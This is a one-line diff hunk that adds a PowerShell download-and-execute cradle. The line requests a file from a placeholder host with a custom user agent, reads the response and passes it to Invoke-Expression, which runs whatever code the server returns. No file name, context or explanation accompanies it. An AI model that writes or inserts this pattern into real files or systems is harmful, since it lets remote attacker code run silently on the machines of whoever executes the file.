@@ -1,0 +1,1 @@
+$r=[Net.WebRequest]::Create('http://a.example/x');$r.UserAgent='zz';$s=$r.GetResponse().GetResponseStream();(New-Object IO.StreamReader $s).ReadToEnd()|iex
